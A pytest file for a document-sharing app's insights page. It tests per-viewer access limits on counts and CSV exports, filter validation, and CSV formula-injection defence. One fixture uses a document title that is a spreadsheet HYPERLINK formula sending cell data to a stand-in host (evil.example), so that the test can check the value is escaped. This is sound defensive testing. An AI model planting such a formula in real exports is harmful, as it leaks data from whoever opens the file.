"""The insights page counts only what the viewer may read, in every cell, total and CSV."""

import pytest

from tests.helpers import publish


@pytest.fixture
def library(app, db, people, make_document):
    made = {}
    for name, scope, area, doc_type in (
        ("national", "national", "send", "self-assessment"),
        ("region", "region", "send", "action-plan"),
        ("authority", "authority", "early-help", "scoping-document"),
    ):
        made[name] = publish(
            app,
            db,
            people,
            make_document,
            f"# {name}\n\nText.\n",
            scope,
            title=f"Insight {name}",
            service_areas=[area],
            document_type=doc_type,
            year=2024,
        )
    return made


def _csvs(client, admin=False):
    charts = ["areas-by-region", "types", "years", "most-read"] + (["growth"] if admin else [])
    return {c: client.get(f"/insights/{c}.csv").get_data(as_text=True) for c in charts}


def test_a_reader_of_another_region_gets_no_count_of_documents_they_may_not_read(client, login, api, library):
    api("brk_reader").get(f"/api/v1/documents/{library['national']}")
    api("ash_reader").get(f"/api/v1/documents/{library['region']}")
    login("brk_reader")
    page = client.get("/insights").get_data(as_text=True)
    assert "What the library holds that you can read: 1 document." in page
    csvs = _csvs(client)
    assert csvs["areas-by-region"].splitlines()[0].startswith("Service area,")
    send = next(line for line in csvs["areas-by-region"].splitlines() if line.startswith("SEND"))
    assert sum(int(n) for n in send.split(",")[1:]) == 1
    early = next(line for line in csvs["areas-by-region"].splitlines() if line.startswith("Early help"))
    assert sum(int(n) for n in early.split(",")[1:]) == 0
    assert "Action plan" not in csvs["types"] and "Scoping" not in csvs["types"]
    assert csvs["years"].splitlines()[1:] == ["2024,1"]
    assert "Insight region" not in csvs["most-read"] and "Insight national" in csvs["most-read"]
    assert "Insight authority" not in page and "Insight region" not in page
    assert client.get("/insights/growth.csv").status_code == 404


def test_readers_of_the_region_and_authority_see_more_and_administrators_everything(client, login, library):
    for who, total in (("ash_reader", 2), ("kgm_reader", 3), ("admin", 3)):
        login(who)
        page = client.get("/insights").get_data(as_text=True)
        assert f": {total} " in page or f"{total} shared document" in page, who
        client.post("/logout")
    login("admin")
    growth = client.get("/insights/growth.csv").get_data(as_text=True).splitlines()
    assert growth[0] == "Month,Documents shared,Authorities sharing,Readers active"
    assert sum(int(line.split(",")[1]) for line in growth[1:]) == 3


def test_gaps_invite_a_contribution(client, login, library):
    login("brk_reader")
    page = client.get("/insights").get_data(as_text=True)
    assert "No self-assessment on Early help shared with North West yet." in page


def test_unknown_filters_are_refused_and_known_ones_narrow(client, login, library):
    login("kgm_reader")
    assert client.get("/insights?colour=blue").status_code == 400
    assert client.get("/insights?document_type=nope").status_code == 400
    assert client.get("/insights?service_area=nowhere").status_code == 400
    assert client.get("/insights/pie.csv").status_code == 404
    narrowed = client.get("/insights/types.csv?service_area=send").get_data(as_text=True)
    assert "Scoping" not in narrowed and "Self-assessment,1" in narrowed


def test_no_csv_cell_becomes_a_spreadsheet_formula(app, client, login, db, people, make_document):
    """A document titled as a formula, read by another authority, then every CSV the app serves:
    no cell starts with what a spreadsheet would run (= + - @, tab, carriage return)."""
    import csv
    import io

    title = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
    document_id = publish(app, db, people, make_document, "# Plan\n\nText.\n", "national", title=title)
    login("brk_reader")
    assert client.get(f"/documents/{document_id}").status_code == 200  # a read, counted
    app.extensions["usage"].flush()
    served = [client.get(f"/insights/{c}.csv") for c in ("areas-by-region", "types", "years", "most-read")]
    client.post("/logout")
    login("kgm_approver")
    served += [client.get(f"/documents/{document_id}/usage.csv"), client.get("/audit.csv")]
    client.post("/logout")
    login("admin")
    served += [client.get("/insights/growth.csv"), client.get("/audit.csv")]
    csv_rules = {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
    assert csv_rules == {"/insights/<chart>.csv", "/documents/<int:document_id>/usage.csv", "/audit.csv"}
    most_read = list(csv.reader(io.StringIO(served[3].get_data(as_text=True))))
    assert most_read[1][0] == "'" + title
    for response in served:
        assert response.status_code == 200 and response.mimetype == "text/csv"
        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
